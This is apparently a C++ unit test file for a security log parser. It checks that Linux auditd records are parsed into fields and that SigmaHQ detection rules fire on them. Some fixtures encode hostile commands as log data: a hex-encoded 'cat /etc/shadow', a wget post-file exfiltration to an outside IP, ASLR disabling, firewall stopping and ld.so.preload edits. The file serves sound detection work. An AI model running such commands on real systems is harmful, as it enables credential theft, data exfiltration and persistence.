// Linux Audit records (issue 5, R18/R19): audit.log lines and their syslog forms, normalised, and
// SigmaHQ's `product: linux, service: auditd` rules firing on them. The records are written from
// auditd's formats (audit.log as auditd writes it, auditd.conf(5) log_format RAW and ENRICHED,
// audisp-syslog's messages), not shaped to any rule.
#include <gtest/gtest.h>

#include <filesystem>
#include <set>
#include <string>

#include "soc/detect.h"
#include "soc/parse.h"
#include "soc/parse_testing.h"
#include "soc/sigma.h"

namespace seccloud::soc {
namespace {

using parse_testing::kReceived;
using parse_testing::ParseAs;
using parse_testing::Str;

Record Text(std::string raw) { return ParseAs(Format::kText, std::move(raw), "file:audit.log"); }

constexpr char kExecveChmod[] =
    "type=EXECVE msg=audit(1764129000.123:4567): argc=3 a0=\"chmod\" a1=\"+x\" "
    "a2=2F746D702F6D792066696C65";

TEST(ParseAuditTest, ExecveArgumentsQuotedAndHexEncoded) {
  const Record r = Text(kExecveChmod);
  ASSERT_TRUE(r.parsed);
  EXPECT_EQ(Str(r, "event.dataset"), "auditd.log");
  EXPECT_EQ(Str(r, "@timestamp"), "2025-11-26T03:50:00.123Z");
  EXPECT_EQ(Str(r, "auditd.log.record_type"), "EXECVE");
  EXPECT_EQ(Str(r, "auditd.log.sequence"), "4567");
  EXPECT_EQ(Str(r, "auditd.log.argc"), "3");
  EXPECT_EQ(Str(r, "auditd.log.a0"), "chmod");
  EXPECT_EQ(Str(r, "auditd.log.a1"), "+x");
  // auditd hex-encodes an argument holding a blank; ausearch -i shows it decoded.
  EXPECT_EQ(Str(r, "auditd.log.a2"), "/tmp/my file");
  EXPECT_EQ(Str(r, "process.command_line"), "chmod +x /tmp/my file");
  EXPECT_EQ(Str(r, "event.action"), "execve");
  EXPECT_EQ(Str(r, "message"), kExecveChmod);
  EXPECT_EQ(Str(r, "seccloud.soc.format"), "text");
}

TEST(ParseAuditTest, LongExecveArgumentPiecesAreJoined) {
  // The kernel splits an argument too long for one pair: a1_len, then a1[0], a1[1], … in hex.
  const Record r = Text(
      "type=EXECVE msg=audit(1764129000.123:4580): argc=3 a0=\"bash\" a1_len=22 "
      "a1[0]=2D6320276563686F20 a1[1]=5A57356A6232526C5A413D3D27 a2=\"x\"");
  ASSERT_TRUE(r.parsed);
  EXPECT_EQ(Str(r, "auditd.log.a1"), "-c 'echo ZW5jb2RlZA=='");
  EXPECT_EQ(Str(r, "auditd.log.a1_len"), "22");
  EXPECT_EQ(Str(r, "auditd.log.a2"), "x");
  EXPECT_EQ(Str(r, "process.command_line"), "bash -c 'echo ZW5jb2RlZA==' x");
}

TEST(ParseAuditTest, SyscallRecordKeepsNumbersAndDecodesEscapedFields) {
  // A SYSCALL record's a0..a3 are the raw arguments in hex: never decoded as text.
  const Record r = Text(
      "type=SYSCALL msg=audit(1764129000.456:4568): arch=c000003e syscall=59 success=yes exit=0 "
      "a0=55d0c6b0a2f0 a1=55d0c6b0a330 a2=55d0c6b09e60 a3=0 items=2 ppid=2211 pid=2230 "
      "auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 "
      "comm=\"bash\" exe=\"/usr/bin/bash\" subj=unconfined key=6578656331");
  ASSERT_TRUE(r.parsed);
  EXPECT_EQ(Str(r, "auditd.log.a0"), "55d0c6b0a2f0");
  EXPECT_EQ(Str(r, "auditd.log.a3"), "0");
  EXPECT_EQ(Str(r, "auditd.log.syscall"), "59");
  EXPECT_EQ(Str(r, "auditd.log.key"), "exec1");  // hex: a key is an escaped field
  EXPECT_EQ(Str(r, "process.pid"), "2230");
  EXPECT_EQ(Str(r, "process.parent.pid"), "2211");
  EXPECT_EQ(Str(r, "process.name"), "bash");
  EXPECT_EQ(Str(r, "process.executable"), "/usr/bin/bash");
  EXPECT_EQ(Str(r, "user.id"), "0");
  EXPECT_EQ(Str(r, "user.audit.id"), "1000");
  EXPECT_EQ(Str(r, "user.effective.id"), "0");
  EXPECT_EQ(Str(r, "event.outcome"), "success");
  EXPECT_EQ(Str(r, "process.command_line"), "<absent>");  // only EXECVE records have one
  // "(null)" is kept as written, never hex-decoded.
  EXPECT_EQ(Str(Text("type=SYSCALL msg=audit(1764129000.456:1): key=(null) exe=(null)"),
                "auditd.log.key"),
            "(null)");
}

TEST(ParseAuditTest, EnrichedFormatAndNode) {
  // auditd.conf log_format = ENRICHED: the interpreted fields after a 0x1D byte.
  const Record r = Text(
      "node=web01 type=SYSCALL msg=audit(1764129000.789:4569): arch=c000003e syscall=135 "
      "success=yes exit=0 a0=40000 a1=0 items=0 pid=3001 comm=\"setarch\" "
      "exe=\"/usr/bin/setarch\" key=(null)\x1d"
      "ARCH=x86_64 SYSCALL=personality AUID=\"alice\" UID=\"root\"");
  ASSERT_TRUE(r.parsed);
  EXPECT_EQ(Str(r, "host.hostname"), "web01");
  EXPECT_EQ(Str(r, "auditd.log.node"), "web01");
  EXPECT_EQ(Str(r, "auditd.log.key"), "(null)");
  EXPECT_EQ(Str(r, "auditd.log.SYSCALL"), "personality");
  EXPECT_EQ(Str(r, "auditd.log.syscall"), "135");
  EXPECT_EQ(Str(r, "auditd.log.AUID"), "alice");
  EXPECT_EQ(Str(r, "auditd.log.ARCH"), "x86_64");
}

TEST(ParseAuditTest, ProctitleAndPathRecords) {
  const Record t = Text(
      "type=PROCTITLE msg=audit(1764129000.790:4570): "
      "proctitle=2F62696E2F7368002D6300636174202F6574632F736861646F77");
  EXPECT_EQ(Str(t, "auditd.log.proctitle"), "/bin/sh -c cat /etc/shadow");
  EXPECT_EQ(Str(t, "process.title"), "/bin/sh -c cat /etc/shadow");
  const Record p = Text(
      "type=PATH msg=audit(1764129000.790:4570): item=0 name=\"/etc/shadow\" inode=1312 "
      "dev=fd:01 mode=0100640 ouid=0 ogid=42 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 "
      "cap_fe=0 cap_fver=0");
  EXPECT_EQ(Str(p, "auditd.log.name"), "/etc/shadow");
  EXPECT_EQ(Str(p, "auditd.log.nametype"), "NORMAL");
  EXPECT_EQ(Str(p, "file.path"), "/etc/shadow");
  // A name that is not hex and not quoted stays as written.
  EXPECT_EQ(Str(Text("type=PATH msg=audit(1764129000.790:1): item=0 name=ZZ nametype=NORMAL"),
                "auditd.log.name"),
            "ZZ");
}

TEST(ParseAuditTest, UserspaceMessagePairs) {
  const Record r = Text(
      "type=SERVICE_STOP msg=audit(1764129001.000:4571): pid=1 uid=0 auid=4294967295 "
      "ses=4294967295 subj=system_u:system_r:init_t:s0 msg='unit=firewalld comm=\"systemd\" "
      "exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'");
  ASSERT_TRUE(r.parsed);
  EXPECT_EQ(Str(r, "auditd.log.unit"), "firewalld");
  EXPECT_EQ(Str(r, "auditd.log.comm"), "systemd");
  EXPECT_EQ(Str(r, "auditd.log.res"), "success");
  EXPECT_EQ(Str(r, "auditd.log.msg"), "<absent>");
  EXPECT_EQ(Str(r, "event.outcome"), "success");
  EXPECT_EQ(Str(r, "event.action"), "service_stop");
  const Record u = Text(
      "type=ADD_USER msg=audit(1764129001.100:4572): pid=3120 uid=0 auid=1000 ses=3 "
      "msg='op=adding user id=1001 exe=\"/usr/sbin/useradd\" hostname=web01 addr=192.0.2.10 "
      "terminal=pts/0 res=failed'");
  EXPECT_EQ(Str(u, "auditd.log.op"), "adding user");  // a word without '=' continues the value
  EXPECT_EQ(Str(u, "auditd.log.id"), "1001");
  EXPECT_EQ(Str(u, "auditd.log.pid"), "3120");
  EXPECT_EQ(Str(u, "source.ip"), "192.0.2.10");
  EXPECT_EQ(Str(u, "event.outcome"), "failure");
}

TEST(ParseAuditTest, SyslogFormsFromAudisp) {
  for (const char* line :
       {"<14>Nov 26 03:50:05 web01 audisp-syslog: node=web01 type=EXECVE "
        "msg=audit(1764129000.123:4567): argc=2 a0=\"id\" a1=\"-u\"",
        "<30>1 2025-11-26T03:50:05Z web01 audispd - - - type=EXECVE "
        "msg=audit(1764129000.123:4567): argc=2 a0=\"id\" a1=\"-u\"",
        "Nov 26 03:50:05 web01 audit[812]: type=EXECVE msg=audit(1764129000.123:4567): argc=2 "
        "a0=\"id\" a1=\"-u\""}) {
    SCOPED_TRACE(line);
    const Record r = ParseAs(Format::kSyslog, line, "udp:514");
    ASSERT_TRUE(r.parsed);
    EXPECT_EQ(Str(r, "event.dataset"), "auditd.log");
    EXPECT_EQ(Str(r, "@timestamp"), "2025-11-26T03:50:00.123Z");  // the record's, not syslog's
    EXPECT_EQ(Str(r, "auditd.log.a0"), "id");
    EXPECT_EQ(Str(r, "process.command_line"), "id -u");
    EXPECT_EQ(Str(r, "host.hostname"), "web01");
    EXPECT_NE(Str(r, "log.syslog.appname"), "<absent>");
  }
  // Another program's message of the same shape is not taken for one.
  const Record other = ParseAs(Format::kSyslog,
                               "<14>Nov 26 03:50:05 web01 myapp: type=EXECVE "
                               "msg=audit(1764129000.123:4567): argc=1 a0=\"id\"",
                               "udp:514");
  EXPECT_EQ(Str(other, "event.dataset"), "system.syslog");
  EXPECT_EQ(Str(other, "auditd.log.a0"), "<absent>");
}

TEST(ParseAuditTest, NotAnAuditHeaderStaysText) {
  for (const char* line :
       {"type=EXECVE argc=1", "type=EXECVE msg=audit(17641290.12:1): a0=1",
        "type= msg=audit(1764129000.123:1): a0=1", "type=EXECVE msg=audit(1764129000.123:): a0=1",
        "type=EXECVE msg=audit(1764129000.123:5 a0=1",
        "node= type=EXECVE msg=audit(1764129000.123:5): a0=1",
        "type=EXECVE msg=audit(99999999999999.123:5): a0=1"}) {
    SCOPED_TRACE(line);
    const Record r = Text(line);
    EXPECT_TRUE(r.parsed);
    EXPECT_EQ(Str(r, "event.dataset"), "text");
    EXPECT_EQ(Str(r, "auditd.log.record_type"), "<absent>");
  }
}

TEST(ParseAuditTest, HostileRecordsAreBounded) {
  // More pairs than kept: the first 256, and how many were dropped.
  std::string many = "type=EXECVE msg=audit(1764129000.123:1): argc=400";
  for (int i = 0; i < 400; ++i) many += " a" + std::to_string(i) + "=\"x\"";
  const Record r = Text(many);
  ASSERT_TRUE(r.parsed);
  EXPECT_EQ(Str(r, "auditd.log.a254"), "x");
  EXPECT_EQ(Str(r, "auditd.log.a255"), "<absent>");
  EXPECT_EQ(Str(r, "auditd.log.pairs_dropped"), "145");
  // An unterminated quote, a key too long, bytes that are no key, odd hex, invalid UTF-8 once
  // decoded: a record all the same, every value valid UTF-8.
  const Record odd = Text("type=EXECVE msg=audit(1764129000.123:2): a0=ABC " +
                          std::string(100, 'k') + "=1 ==== \x01\x02 a1=FF80 a2=\"open");
  ASSERT_TRUE(odd.parsed);
  EXPECT_EQ(Str(odd, "auditd.log.a0"), "ABC");
  EXPECT_EQ(Str(odd, "auditd.log.a1"), "\xEF\xBF\xBD\xEF\xBF\xBD");
  EXPECT_EQ(Str(odd, "auditd.log.a2"), "open");
  // A repeated key keeps its first value.
  EXPECT_EQ(Str(Text("type=PATH msg=audit(1764129000.123:3): name=\"/a\" name=\"/b\""),
                "auditd.log.name"),
            "/a");
  // Deterministic, as the store rebuilds fields from the raw line.
  const Record again = Text(many);
  EXPECT_EQ(boost::json::serialize(again.fields()), boost::json::serialize(r.fields()));
}

// ---- SigmaHQ's auditd rules on these records ----

const std::filesystem::path kAuditdRules =
    std::filesystem::path(SECCLOUD_SOURCE_DIR "/../shared/data/sigma/rules/linux/auditd");

std::set<std::string> Fired(DetectionEngine& engine, const Record& r) {
  std::vector<Detection> out;
  engine.Process(r, &out);
  std::set<std::string> ids;
  for (const auto& d : out) ids.insert(d.rule_id);
  return ids;
}

TEST(ParseAuditTest, SigmaHqAuditdRulesFireOnTheirRecords) {
  if (!std::filesystem::is_directory(kAuditdRules)) {
    GTEST_SKIP() << kAuditdRules << " is absent (SigmaHQ rules are test data, not in the repo)";
  }
  LoadReport report;
  auto set = LoadRules({kAuditdRules}, &report);
  ASSERT_TRUE(set.has_value());
  for (const auto& i : report.unsupported) ADD_FAILURE() << "not loaded: " << i.ToString();
  for (const auto& i : report.errors) ADD_FAILURE() << "error: " << i.ToString();
  auto engine = DetectionEngine::Create(std::move(*set));
  ASSERT_TRUE(engine.has_value());

  struct Case {
    const char* rule_id;
    const char* line;
    Format format;
  };
  const Case cases[] = {
      {"a5b977d6-8a81-4475-91b9-49dbfcd941f7",  // Remove Immutable File Attribute
       "type=EXECVE msg=audit(1764129000.123:4601): argc=3 a0=\"chattr\" a1=\"-i\" "
       "a2=\"/etc/resolv.conf\"",
       Format::kText},
      {"cb39d16b-b3b6-4a7a-8222-1cf24b686ffc",  // Data Exfiltration with Wget
       "type=EXECVE msg=audit(1764129000.200:4602): argc=3 a0=\"wget\" "
       "a1=2D2D706F73742D66696C653D2F746D702F6D7920646174612E747874 "
       "a2=\"http://198.51.100.7/upload\"",
       Format::kText},
      {"e497a24e-9345-4a62-9803-b06d7d7cb132",  // Disable ASLR (personality syscall, enriched)
       "type=SYSCALL msg=audit(1764129000.300:4603): arch=c000003e syscall=135 success=yes "
       "exit=0 a0=40000 a1=0 a2=0 a3=7ffd1c0b5e70 items=0 ppid=2211 pid=2230 auid=1000 uid=0 "
       "gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm=\"setarch\" "
       "exe=\"/usr/bin/setarch\" subj=unconfined key=(null)\x1d"
       "ARCH=x86_64 SYSCALL=personality AUID=\"alice\" UID=\"root\" GID=\"root\"",
       Format::kText},
      {"1bac86ba-41aa-4f62-9d6b-405eac99b485",  // Systemd Service Creation
       "node=web01 type=PATH msg=audit(1764129000.400:4604): item=1 "
       "name=\"/etc/systemd/system/update-helper.service\" inode=393412 dev=fd:01 mode=0100644 "
       "ouid=0 ogid=0 rdev=00:00 nametype=CREATE cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0",
       Format::kText},
      {"53059bc0-1472-438b-956a-7508a94a91f0",  // Disable System Firewall
       "<14>Nov 26 03:50:05 web01 audisp-syslog: node=web01 type=SERVICE_STOP "
       "msg=audit(1764129000.500:4605): pid=1 uid=0 auid=4294967295 ses=4294967295 "
       "subj=system_u:system_r:init_t:s0 msg='unit=firewalld comm=\"systemd\" "
       "exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'",
       Format::kSyslog},
      {"759d0d51-bc99-4b5e-9add-8f5b2c8e7512",  // Creation Of An User Account
       "type=ADD_USER msg=audit(1764129000.600:4606): pid=3120 uid=0 auid=1000 ses=3 "
       "subj=unconfined msg='op=adding user id=1001 exe=\"/usr/sbin/useradd\" hostname=web01 "
       "addr=? terminal=pts/0 res=success'",
       Format::kText},
      {"4b3cb710-5e83-4715-8c45-8b2b5b3e5751",  // Modification of ld.so.preload
       "<14>Nov 26 03:50:05 web01 audispd: node=web01 type=PATH "
       "msg=audit(1764129000.700:4607): item=0 name=\"/etc/ld.so.preload\" inode=1100 "
       "dev=fd:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 "
       "cap_fe=0 cap_fver=0",
       Format::kSyslog},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.line);
    const Record r = ParseAs(c.format, c.line, "test");
    ASSERT_TRUE(r.parsed);
    ASSERT_EQ(Str(r, "event.dataset"), "auditd.log");
    EXPECT_EQ(Fired(**engine, r).count(c.rule_id), 1u) << c.rule_id;
  }

  // Everyday records of the same types fire none of the 53 rules.
  for (const char* benign : {
           "type=EXECVE msg=audit(1764129001.000:4701): argc=2 a0=\"ls\" a1=\"-la\"",
           "type=EXECVE msg=audit(1764129001.100:4702): argc=3 a0=\"wget\" a1=\"-q\" "
           "a2=\"https://deb.debian.org/debian/dists/bookworm/Release\"",
           "type=SYSCALL msg=audit(1764129001.200:4703): arch=c000003e syscall=59 success=yes "
           "exit=0 a0=55d0 a1=55d1 a2=55d2 a3=0 items=2 ppid=1 pid=812 auid=4294967295 uid=0 "
           "comm=\"cron\" exe=\"/usr/sbin/cron\" key=(null)\x1d"
           "ARCH=x86_64 SYSCALL=execve AUID=\"unset\" UID=\"root\"",
           "type=PATH msg=audit(1764129001.300:4704): item=0 name=\"/etc/hosts\" inode=12 "
           "dev=fd:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL",
           "type=SERVICE_STOP msg=audit(1764129001.400:4705): pid=1 uid=0 auid=4294967295 "
           "ses=4294967295 msg='unit=cups comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" "
           "hostname=? addr=? terminal=? res=success'",
       }) {
    SCOPED_TRACE(benign);
    const Record r = Text(benign);
    ASSERT_EQ(Str(r, "event.dataset"), "auditd.log");
    EXPECT_TRUE(Fired(**engine, r).empty());
  }
}

}  // namespace
}  // namespace seccloud::soc
